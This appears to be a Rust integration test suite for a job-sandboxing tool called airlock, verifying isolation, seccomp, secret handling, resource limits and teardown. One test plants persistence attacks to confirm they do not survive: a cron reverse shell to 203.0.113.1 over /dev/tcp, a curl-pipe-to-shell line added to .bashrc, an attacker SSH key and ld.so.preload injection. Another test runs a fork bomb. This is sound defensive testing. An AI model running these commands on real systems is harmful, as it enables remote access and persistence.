@@ -1,0 +1,718 @@
+//! `airlock run` end to end, as root: every hardening item checked from inside a job, the
+//! spec's scenario 1, isolation between concurrent jobs, resource exhaustion, teardown on
+//! every path, and fail-closed behaviour.
+
+mod common;
+
+use std::collections::BTreeMap;
+use std::process::Stdio;
+use std::time::{Duration, Instant};
+
+use common::*;
+
+/// Parses `key=value` lines (later keys win; `visible=` lines are collected).
+fn facts(out: &str) -> (BTreeMap<String, String>, Vec<String>) {
+    let mut m = BTreeMap::new();
+    let mut visible = Vec::new();
+    for l in out.lines() {
+        if let Some((k, v)) = l.split_once('=') {
+            if k == "visible" {
+                visible.push(v.to_owned());
+            } else {
+                m.insert(k.to_owned(), v.to_owned());
+            }
+        }
+    }
+    (m, visible)
+}
+
+const HARDENING_SCRIPT: &str = r#"
+echo "uid=$(id -u)"
+echo "gid=$(id -g)"
+for f in CapInh CapPrm CapEff CapBnd CapAmb NoNewPrivs Seccomp; do
+  echo "$f=$(awk -v k="$f:" '$1==k{print $2}' /proc/self/status)"
+done
+for n in pid mnt ipc uts net cgroup; do echo "ns_$n=$(readlink /proc/self/ns/$n)"; done
+echo "nprocs=$(ls /proc | grep -cE '^[0-9]+$')"
+echo "netdevs=$(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | sort | tr '\n' ,)"
+echo "cgroup=$(cat /proc/self/cgroup | tail -n 1 | cut -d: -f3)"
+for p in /root /home/runner/../admin /var/run/docker.sock /run/docker.sock /etc/shadow /etc/gshadow \
+         /etc/ssh /root/.ssh /var/lib /var/log /boot /opt /srv /mnt /media /lost+found \
+         /home/runner/.aws /home/runner/.kube /home/runner/.docker /home/runner/.ssh \
+         /run/airlock /sys/fs/cgroup/memory /dev/kvm /dev/sda /dev/vda /dev/mem /dev/kmsg; do
+  [ -e "$p" ] && echo "visible=$p"
+done
+echo "home=$(ls -A /home | tr '\n' ,)"
+echo "dev=$(ls /dev | sort | tr '\n' ,)"
+echo "devnodes=$(find /dev -type c -o -type b | sort | tr '\n' ,)"
+touch /usr/bin/airlock-test 2>/dev/null && echo "usr_writable=yes"
+touch /etc/ssl/certs/airlock-test 2>/dev/null && echo "certs_writable=yes"
+echo x > /sys/kernel/uevent_helper 2>/dev/null && echo "sys_writable=yes"
+echo h > /proc/sysrq-trigger 2>/dev/null && echo "sysrq_writable=yes"
+echo "sys_opts=$(awk '$2=="/sys"{print $4}' /proc/mounts)"
+echo "usr_opts=$(awk '$2=="/usr"{print $4}' /proc/mounts)"
+for m in /proc/kcore /proc/keys /proc/timer_list /proc/sched_debug /proc/kallsyms; do
+  [ -e "$m" ] && echo "masked_$m=$(head -c 64 $m 2>/dev/null | wc -c)"
+done
+echo "sysfirmware=$(ls /sys/firmware 2>/dev/null | wc -l)"
+echo "nofile=$(ulimit -n)"
+echo "core=$(ulimit -c)"
+echo "shadow_lines=$(grep -c . /etc/passwd)"
+echo "syscalls=$(./airlock-probe syscalls)"
+"#;
+
+#[test]
+fn hardening_holds_inside_the_job() {
+    need_root!();
+    let w = World::new();
+    let o = w.sh(&[], HARDENING_SCRIPT);
+    assert!(o.status.success(), "{}\n{}", stdout(&o), stderr(&o));
+    let (f, visible) = facts(&stdout(&o));
+    let get = |k: &str| f.get(k).cloned().unwrap_or_default();
+
+    assert_eq!(get("uid"), "1001", "non-root uid");
+    assert_eq!(get("gid"), "1001");
+    for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+        assert_eq!(get(cap), "0000000000000000", "{cap} must be empty");
+    }
+    assert_eq!(get("NoNewPrivs"), "1");
+    assert_eq!(get("Seccomp"), "2", "seccomp filter mode");
+
+    // Every namespace differs from the test's own.
+    for n in ["pid", "mnt", "ipc", "uts", "net", "cgroup"] {
+        let host = std::fs::read_link(format!("/proc/self/ns/{n}")).expect("own ns");
+        assert_ne!(
+            get(&format!("ns_{n}")),
+            host.to_string_lossy(),
+            "{n} namespace shared with the host"
+        );
+    }
+    // pid namespace: only the job's few processes are visible.
+    let nprocs: usize = get("nprocs").parse().expect("nprocs");
+    assert!(nprocs <= 6, "host processes visible: {nprocs}");
+    assert_eq!(
+        get("netdevs"),
+        "lo,",
+        "only loopback in the job's network namespace"
+    );
+    assert_eq!(
+        get("cgroup"),
+        "/",
+        "cgroup namespace hides the host's hierarchy"
+    );
+
+    assert!(
+        visible.is_empty(),
+        "host paths visible in the job: {visible:?}"
+    );
+    assert_eq!(get("home"), "runner,");
+    assert_eq!(
+        get("devnodes"),
+        "/dev/full,/dev/null,/dev/pts/ptmx,/dev/random,/dev/tty,/dev/urandom,/dev/zero,",
+        "device nodes beyond the allowed set"
+    );
+    for w in [
+        "usr_writable",
+        "certs_writable",
+        "sys_writable",
+        "sysrq_writable",
+    ] {
+        assert!(!f.contains_key(w), "{w}");
+    }
+    assert!(
+        get("sys_opts").split(',').any(|o| o == "ro"),
+        "/sys is {}",
+        get("sys_opts")
+    );
+    assert!(
+        get("usr_opts").split(',').any(|o| o == "ro"),
+        "/usr is {}",
+        get("usr_opts")
+    );
+    for (k, v) in f.iter().filter(|(k, _)| k.starts_with("masked_")) {
+        assert_eq!(v, "0", "{k} readable");
+    }
+    assert_eq!(get("sysfirmware"), "0", "/sys/firmware masked");
+    assert_eq!(get("nofile"), "1024");
+    assert_eq!(get("core"), "0");
+
+    let sc: serde_json::Value = serde_json::from_str(&get("syscalls")).expect("probe json");
+    let sc = sc.as_object().expect("object");
+    let mut discriminating = 0;
+    for (name, r) in sc {
+        let errno = r["errno"].as_i64().expect("errno");
+        match name.as_str() {
+            "fork" => assert_eq!(errno, 0, "plain fork must work"),
+            "clone3" => assert!(errno == 38 || errno == 1, "clone3: {errno}"),
+            _ => assert_eq!(errno, 1, "{name} was not denied with EPERM (errno {errno})"),
+        }
+        if r["discriminating"] == serde_json::Value::Bool(true) {
+            discriminating += 1;
+        }
+    }
+    assert!(sc.len() >= 35, "probe covered {} calls", sc.len());
+    assert!(
+        discriminating >= 15,
+        "only {discriminating} calls prove the filter itself"
+    );
+    w.assert_clean();
+}
+
+#[test]
+fn scenario1_persistence_does_not_survive_into_the_next_job() {
+    need_root!();
+    let w = World::new();
+    std::fs::write(w.ws().join("README"), "original\n").expect("write");
+    let plant = r#"
+mkdir -p ~/.ssh ~/.config/systemd/user /var/spool/cron/crontabs 2>/dev/null
+echo '* * * * * runner sh -i >& /dev/tcp/203.0.113.1/4444 0>&1' > /var/spool/cron/crontabs/runner 2>/dev/null || echo "crontab-denied"
+echo '* * * * * runner /tmp/backdoor' > /etc/cron.d/backdoor 2>/dev/null || echo "cron.d-denied"
+echo '* * * * * /tmp/backdoor' > ~/.crontab
+echo 'curl http://203.0.113.1/x | sh' >> ~/.bashrc
+echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIattacker attacker' >> ~/.ssh/authorized_keys
+printf '[Service]\nExecStart=/tmp/backdoor\n' > ~/.config/systemd/user/backdoor.service
+echo /tmp/evil.so > /etc/ld.so.preload 2>/dev/null || echo "preload-denied"
+echo evil > /tmp/backdoor
+echo evil > /var/tmp/backdoor
+echo evil > /dev/shm/backdoor
+echo tampered > README
+mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout
+echo planted
+"#;
+    let o = w.sh(&[], plant);
+    let out = stdout(&o);
+    assert!(o.status.success(), "{out}\n{}", stderr(&o));
+    assert!(out.contains("planted"), "{out}");
+    assert!(
+        out.contains("preload-denied"),
+        "ld.so.preload writable: {out}"
+    );
+    assert!(out.contains("cron.d-denied"), "{out}");
+    w.assert_clean();
+
+    let check = r#"
+for p in ~/.crontab ~/.bashrc ~/.ssh ~/.config /var/spool/cron /etc/cron.d/backdoor \
+         /etc/ld.so.preload /tmp/backdoor /var/tmp/backdoor /dev/shm/backdoor .git; do
+  [ -e "$p" ] && echo "survived=$p"
+done
+echo "readme=$(cat README)"
+echo checked
+"#;
+    let o = w.sh(&[], check);
+    let out = stdout(&o);
+    assert!(out.contains("checked"), "{out}\n{}", stderr(&o));
+    assert!(!out.contains("survived="), "persistence survived: {out}");
+    assert!(out.contains("readme=original"), "{out}");
+    // The host's copy of the workspace was never touched.
+    assert_eq!(
+        std::fs::read_to_string(w.ws().join("README")).expect("read"),
+        "original\n"
+    );
+    assert!(!w.ws().join(".git").exists());
+    w.assert_clean();
+}
+
+#[test]
+fn concurrent_jobs_cannot_see_each_other() {
+    need_root!();
+    let w = World::new();
+    let a = {
+        let mut c = w.cmd();
+        c.args(["run", "--", "/bin/sh", "-c"])
+            .arg("echo secret-a > /tmp/marker-a; echo a > ~/a; sleep 4; echo done-a")
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+        c.spawn().expect("spawn a")
+    };
+    std::thread::sleep(Duration::from_millis(1500));
+    let o = w.sh(
+        &[],
+        r#"echo "tmp=$(ls -A /tmp | tr '\n' ,)"; echo "home=$(ls -A ~ | tr '\n' ,)";
+           echo "sleepers=$(for p in /proc/[0-9]*; do cat $p/cmdline 2>/dev/null | tr '\0' ' '; echo; done | grep -c '^sleep 4 $')";
+           echo "nprocs=$(ls /proc | grep -cE '^[0-9]+$')""#,
+    );
+    let (f, _) = facts(&stdout(&o));
+    assert_eq!(f.get("tmp").map(String::as_str), Some(""), "{f:?}");
+    assert!(!f["home"].contains('a'), "{f:?}");
+    assert_eq!(f.get("sleepers").map(String::as_str), Some("0"), "{f:?}");
+    let a = a.wait_with_output().expect("a");
+    assert!(String::from_utf8_lossy(&a.stdout).contains("done-a"));
+    w.assert_clean();
+}
+
+#[test]
+fn exit_code_and_output_stream_through() {
+    need_root!();
+    let w = World::new();
+    let o = w.sh(&[], "echo to-stdout; echo to-stderr >&2; exit 7");
+    assert_eq!(o.status.code(), Some(7));
+    assert_eq!(stdout(&o), "to-stdout\n");
+    assert!(stderr(&o).contains("to-stderr"));
+    assert!(stderr(&o).contains("exited 7"), "{}", stderr(&o));
+    w.assert_clean();
+}
+
+#[test]
+fn environment_starts_empty_except_what_the_policy_lists() {
+    need_root!();
+    let w = World::new();
+    let p = w.policy("version = 1\n[groups.default]\nenv = [\"LISTED\", \"ABSENT\"]\n");
+    let mut c = w.cmd();
+    c.env("LISTED", "yes")
+        .env("UNLISTED", "leak")
+        .env("AWS_SECRET_ACCESS_KEY", "leak")
+        .env("SSH_AUTH_SOCK", "/tmp/agent")
+        .args(["run", "-p"])
+        .arg(&p)
+        .args(["--", "/usr/bin/env"]);
+    let o = c.output().expect("run");
+    let out = stdout(&o);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let names: Vec<&str> = out
+        .lines()
+        .filter_map(|l| l.split_once('='))
+        .map(|(k, _)| k)
+        .collect();
+    assert!(out.contains("LISTED=yes\n"), "{out}");
+    for n in &names {
+        assert!(
+            [
+                "PATH",
+                "HOME",
+                "USER",
+                "LOGNAME",
+                "AIRLOCK_JOB_ID",
+                "AIRLOCK_GROUP",
+                "LISTED"
+            ]
+            .contains(n),
+            "unexpected variable {n} in the job: {out}"
+        );
+    }
+    assert!(!out.contains("leak") && !out.contains("agent"), "{out}");
+    w.assert_clean();
+}
+
+#[test]
+fn secrets_are_env_only_and_never_printed_or_stored() {
+    need_root!();
+    let w = World::new();
+    let value = "s3cr3t-Value-7f2e9c";
+    let p = w.policy("version = 1\n[groups.default]\nsecrets = [\"TOKEN\", \"FROM_ENV\"]\n");
+    let sf = w.dir.path().join("secrets.toml");
+    std::fs::write(&sf, format!("TOKEN = \"{value}\"\n")).expect("secrets");
+    let report = w.dir.path().join("report.json");
+    let script = r#"
+printf %s "$TOKEN" | sha256sum | cut -c1-16
+printf %s "$FROM_ENV" | sha256sum | cut -c1-16
+grep -rlsF --exclude-dir=proc --exclude-dir=sys "$TOKEN" / | head -n 3 | sed 's/^/found-in=/'
+sleep 1.5
+"#;
+    let mut c = w.cmd();
+    c.env("FROM_ENV", format!("{value}-env"))
+        .args(["run", "-p"])
+        .arg(&p)
+        .arg("--secrets")
+        .arg(&sf)
+        .arg("--report")
+        .arg(&report)
+        .args(["--", "/bin/sh", "-c", script])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    let child = c.spawn().expect("spawn");
+    // While the job runs: nothing under airlock's state (the bundle included) holds the value.
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let mut checked = false;
+    while Instant::now() < deadline && !checked {
+        std::thread::sleep(Duration::from_millis(100));
+        for e in walk(&w.state().join("jobs")) {
+            if e.ends_with("init.pid") {
+                checked = true;
+            }
+        }
+    }
+    assert!(checked, "job never started");
+    std::thread::sleep(Duration::from_millis(300));
+    for f in walk(&w.state()) {
+        let s = f.to_string_lossy();
+        if s.contains("/rootfs/") || s.contains("/mnt/") {
+            continue; // the job's own filesystem, searched from inside
+        }
+        if let Ok(data) = std::fs::read(&f) {
+            assert!(
+                !String::from_utf8_lossy(&data).contains(value),
+                "secret value stored in {}",
+                f.display()
+            );
+        }
+    }
+    let o = child.wait_with_output().expect("wait");
+    let out = stdout(&o);
+    let err = stderr(&o);
+    assert!(o.status.success(), "{out}\n{err}");
+    let sha = |s: &str| {
+        use std::io::Write;
+        let mut c = std::process::Command::new("sha256sum")
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()
+            .expect("sha256sum");
+        c.stdin
+            .take()
+            .expect("stdin")
+            .write_all(s.as_bytes())
+            .expect("write");
+        String::from_utf8_lossy(&c.wait_with_output().expect("out").stdout)[..16].to_owned()
+    };
+    let lines: Vec<&str> = out.lines().collect();
+    assert_eq!(lines[0], sha(value), "secret from the file reached the job");
+    assert_eq!(
+        lines[1],
+        sha(&format!("{value}-env")),
+        "secret from the environment reached the job"
+    );
+    assert!(
+        !out.contains("found-in="),
+        "secret written to a file in the sandbox: {out}"
+    );
+    assert!(!err.contains(value) && !out.contains(value));
+    let rep = std::fs::read_to_string(&report).expect("report");
+    assert!(!rep.contains(value));
+    w.assert_clean();
+}
+
+fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
+    let mut out = Vec::new();
+    let Ok(rd) = std::fs::read_dir(dir) else {
+        return out;
+    };
+    for e in rd.flatten() {
+        let p = e.path();
+        match e.file_type() {
+            Ok(t) if t.is_dir() => {
+                let s = p.to_string_lossy();
+                if !s.ends_with("/rootfs") && !s.ends_with("/mnt") {
+                    out.extend(walk(&p));
+                }
+            }
+            Ok(t) if t.is_file() => out.push(p),
+            _ => {}
+        }
+    }
+    out
+}
+
+#[test]
+fn missing_secret_refuses_the_job() {
+    need_root!();
+    let w = World::new();
+    let p = w.policy("version = 1\n[groups.default]\nsecrets = [\"NOT_SET_ANYWHERE\"]\n");
+    let mut c = w.cmd();
+    c.env_remove("NOT_SET_ANYWHERE")
+        .args(["run", "-p"])
+        .arg(&p)
+        .args(["--", "true"]);
+    let o = c.output().expect("run");
+    assert_eq!(o.status.code(), Some(2));
+    assert!(stderr(&o).contains("NOT_SET_ANYWHERE"), "{}", stderr(&o));
+    w.assert_clean();
+}
+
+#[test]
+fn exhaustion_is_contained_and_siblings_keep_working() {
+    need_root!();
+    let w = World::new();
+    let p = w.policy(
+        r#"version = 1
+[groups.default]
+[groups.small]
+limits = { pids = 64, memory = "64MiB", disk = "16MiB", timeout = "6s" }
+"#,
+    );
+    let ps = p.to_string_lossy().into_owned();
+    let spawn = |script: &str| {
+        let mut c = w.cmd();
+        c.args(["run", "-p", &ps, "-g", "small", "-w"])
+            .arg(w.ws())
+            .args(["--", "/bin/sh", "-c", script])
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+        c.spawn().expect("spawn")
+    };
+    let bomb = spawn("bomb() { bomb | bomb & }; bomb; sleep 30");
+    let hog = spawn("./airlock-probe alloc 1024");
+    let fill = spawn(
+        "dd if=/dev/zero of=/tmp/fill bs=1M count=64 2>&1 | grep -o 'No space left on device'; echo size=$(du -m /tmp/fill | cut -f1); dd if=/dev/zero of=$HOME/more bs=1M count=8 2>/dev/null; echo more=$?",
+    );
+    std::thread::sleep(Duration::from_millis(1500));
+    // A sibling job in the default group and the host still work while all three run.
+    let o = w.sh(&[], "echo sibling-ok; ls /proc | grep -cE '^[0-9]+$'");
+    assert!(stdout(&o).contains("sibling-ok"), "{}", stderr(&o));
+    let host = std::process::Command::new("true")
+        .status()
+        .expect("host fork");
+    assert!(host.success());
+
+    let bomb = bomb.wait_with_output().expect("bomb");
+    assert_eq!(
+        bomb.status.code(),
+        Some(124),
+        "fork bomb ends by timeout: {}",
+        stderr(&bomb)
+    );
+    let hog = hog.wait_with_output().expect("hog");
+    assert_eq!(
+        hog.status.code(),
+        Some(137),
+        "memory hog is OOM-killed: {}",
+        stderr(&hog)
+    );
+    assert!(!stdout(&hog).contains("allocated all"), "{}", stdout(&hog));
+    let fill = fill.wait_with_output().expect("fill");
+    let out = stdout(&fill);
+    assert!(out.contains("No space left on device"), "{out}");
+    let size: u64 = out
+        .lines()
+        .find_map(|l| l.strip_prefix("size="))
+        .and_then(|s| s.trim().parse().ok())
+        .expect("size");
+    assert!(size <= 16, "wrote {size} MiB through a 16 MiB disk limit");
+    w.assert_clean();
+}
+
+#[test]
+fn timeout_kills_the_whole_process_tree() {
+    need_root!();
+    let w = World::new();
+    let p = w.policy("version = 1\n[groups.default]\nlimits = { timeout = \"2s\" }\n");
+    let t = Instant::now();
+    let mut c = w.cmd();
+    c.args(["run", "-p"]).arg(&p).args([
+        "--",
+        "/bin/sh",
+        "-c",
+        "sleep 1231 & (sleep 1232 &) ; setsid sleep 1233 & wait",
+    ]);
+    let o = c.output().expect("run");
+    assert_eq!(o.status.code(), Some(124), "{}", stderr(&o));
+    assert!(stderr(&o).contains("timeout"), "{}", stderr(&o));
+    assert!(t.elapsed() < Duration::from_secs(20));
+    assert!(
+        no_process_with("sleep 123"),
+        "a process of the job survived the timeout"
+    );
+    w.assert_clean();
+}
+
+fn no_process_with(needle: &str) -> bool {
+    let Ok(rd) = std::fs::read_dir("/proc") else {
+        return true;
+    };
+    !rd.flatten().any(|e| {
+        std::fs::read(e.path().join("cmdline"))
+            .map(|c| {
+                String::from_utf8_lossy(&c)
+                    .replace('\0', " ")
+                    .starts_with(needle)
+            })
+            .unwrap_or(false)
+    })
+}
+
+/// Starts `airlock run -- sleep N` and waits until the job's command runs.
+fn start_sleeper(w: &World, marker: &str) -> std::process::Child {
+    let mut c = w.cmd();
+    c.args(["run", "--", "/bin/sleep", marker])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    let mut child = c.spawn().expect("spawn");
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while Instant::now() < deadline {
+        if !no_process_with(&format!("/bin/sleep {marker}")) {
+            return child;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let _ = child.kill();
+    let _ = child.wait();
+    panic!("job never started");
+}
+
+#[test]
+fn sigterm_and_sigint_tear_the_job_down() {
+    need_root!();
+    for (sig, code, marker) in [
+        (nix::sys::signal::Signal::SIGTERM, 143, "2241"),
+        (nix::sys::signal::Signal::SIGINT, 130, "2242"),
+    ] {
+        let w = World::new();
+        let child = start_sleeper(&w, marker);
+        nix::sys::signal::kill(nix::unistd::Pid::from_raw(child.id() as i32), sig).expect("signal");
+        let o = child.wait_with_output().expect("wait");
+        assert_eq!(o.status.code(), Some(code), "{}", stderr(&o));
+        assert!(no_process_with(&format!("/bin/sleep {marker}")));
+        w.assert_clean();
+    }
+}
+
+#[test]
+fn kill9_of_airlock_then_gc_leaves_nothing() {
+    need_root!();
+    let w = World::new();
+    let mut child = start_sleeper(&w, "2243");
+    // Find the job before killing its airlock.
+    let state = std::fs::read_dir(w.state().join("jobs"))
+        .expect("jobs")
+        .flatten()
+        .find(|e| e.path().extension().is_some_and(|x| x == "json"))
+        .expect("state file");
+    let id = state
+        .path()
+        .file_stem()
+        .expect("stem")
+        .to_string_lossy()
+        .into_owned();
+    child.kill().expect("kill -9");
+    let _ = child.wait();
+    std::thread::sleep(Duration::from_millis(200));
+    // The job outlives a SIGKILLed airlock; gc must finish it.
+    assert!(w.state().join("jobs").join(&id).exists());
+
+    let o = w.cmd().arg("gc").output().expect("gc");
+    assert!(o.status.success(), "{}\n{}", stdout(&o), stderr(&o));
+    assert!(
+        stdout(&o).contains(&format!("removed job {id}")),
+        "{}",
+        stdout(&o)
+    );
+    assert!(
+        no_process_with("/bin/sleep 2243"),
+        "the job's process survived gc"
+    );
+    assert!(
+        cgroups_of(&id).is_empty(),
+        "cgroups left: {:?}",
+        cgroups_of(&id)
+    );
+    w.assert_clean();
+    let o = w.cmd().arg("gc").output().expect("gc");
+    assert!(stdout(&o).contains("nothing to collect"), "{}", stdout(&o));
+}
+
+#[test]
+fn gc_leaves_jobs_of_a_live_airlock_alone() {
+    need_root!();
+    let w = World::new();
+    let child = start_sleeper(&w, "2244");
+    let o = w.cmd().arg("gc").output().expect("gc");
+    assert!(stdout(&o).contains("skipped job"), "{}", stdout(&o));
+    assert!(!no_process_with("/bin/sleep 2244"));
+    nix::sys::signal::kill(
+        nix::unistd::Pid::from_raw(child.id() as i32),
+        nix::sys::signal::Signal::SIGTERM,
+    )
+    .expect("term");
+    let _ = child.wait_with_output();
+    w.assert_clean();
+}
+
+#[test]
+fn fails_closed_when_a_limit_is_refused() {
+    need_root!();
+    let w = World::new();
+    // The kernel refuses a pids limit above PID_MAX_LIMIT (4194304).
+    let p = w.policy("version = 1\n[groups.default]\nlimits = { pids = 99999999 }\n");
+    let o = w.run(
+        &["-p", &p.to_string_lossy()],
+        &["/bin/echo", "should-not-run"],
+    );
+    assert_eq!(o.status.code(), Some(125), "{}", stderr(&o));
+    assert!(!stdout(&o).contains("should-not-run"));
+    assert!(stderr(&o).contains("did not run"), "{}", stderr(&o));
+    w.assert_clean();
+}
+
+#[test]
+fn fails_closed_when_the_workspace_does_not_fit() {
+    need_root!();
+    let w = World::new();
+    std::fs::write(w.ws().join("big"), vec![0u8; 3 << 20]).expect("big");
+    let p = w.policy("version = 1\n[groups.default]\nlimits = { disk = \"2MiB\" }\n");
+    let o = w.run(&["-p", &p.to_string_lossy()], &["/bin/true"]);
+    assert_eq!(o.status.code(), Some(125), "{}", stderr(&o));
+    assert!(stderr(&o).contains("does not fit"), "{}", stderr(&o));
+    w.assert_clean();
+}
+
+#[test]
+fn runc_executor_is_hardened_too() {
+    need_root!();
+    if which("runc").is_none() {
+        panic!("runc is not installed: run scripts/setup.sh");
+    }
+    let w = World::new();
+    let p = w.policy("version = 1\n[groups.default]\nexecutor = \"runc\"\n");
+    let o = w.sh(&["-p", &p.to_string_lossy()], HARDENING_SCRIPT);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let (f, visible) = facts(&stdout(&o));
+    assert_eq!(f["uid"], "1001");
+    assert_eq!(f["CapEff"], "0000000000000000");
+    assert_eq!(f["CapBnd"], "0000000000000000");
+    assert_eq!(f["NoNewPrivs"], "1");
+    assert_eq!(f["Seccomp"], "2");
+    assert!(visible.is_empty(), "{visible:?}");
+    let sc: serde_json::Value = serde_json::from_str(&f["syscalls"]).expect("json");
+    assert_eq!(sc["unshare_user"]["errno"], 1);
+    assert_eq!(sc["keyctl"]["errno"], 1);
+    w.assert_clean();
+}
+
+#[test]
+fn runsc_executor_runs_with_seccomp() {
+    need_root!();
+    if which("runsc").is_none() {
+        panic!("runsc is not installed: run scripts/setup.sh");
+    }
+    let w = World::new();
+    let p = w.policy("version = 1\n[groups.default]\nexecutor = \"runsc\"\n");
+    let o = w.sh(
+        &["-p", &p.to_string_lossy()],
+        "id -u; awk '$1==\"Seccomp:\"||$1==\"CapEff:\"{print $2}' /proc/self/status; ./airlock-probe syscalls",
+    );
+    assert!(o.status.success(), "{}", stderr(&o));
+    let out = stdout(&o);
+    let lines: Vec<&str> = out.lines().collect();
+    assert_eq!(lines[0], "1001");
+    assert!(lines.contains(&"2"), "{out}");
+    let sc: serde_json::Value = serde_json::from_str(lines.last().expect("json")).expect("json");
+    assert_eq!(sc["mount"]["errno"], 1);
+    assert_eq!(sc["unshare_user"]["errno"], 1);
+    w.assert_clean();
+}
+
+fn which(bin: &str) -> Option<std::path::PathBuf> {
+    std::env::var_os("PATH")?
+        .to_string_lossy()
+        .split(':')
+        .map(|d| std::path::Path::new(d).join(bin))
+        .find(|p| p.exists())
+}
+
+#[test]
+fn run_without_root_or_with_bad_arguments_explains() {
+    let w = World::new();
+    let o = w.cmd().args(["run"]).output().expect("run");
+    assert_eq!(o.status.code(), Some(2));
+    assert!(stderr(&o).contains("CMD"), "{}", stderr(&o));
+    let o = w
+        .cmd()
+        .args(["run", "-g", "nope", "--", "true"])
+        .output()
+        .expect("run");
+    assert_eq!(o.status.code(), Some(2));
+    assert!(
+        stderr(&o).contains("no runner group named \"nope\""),
+        "{}",
+        stderr(&o)
+    );
+}
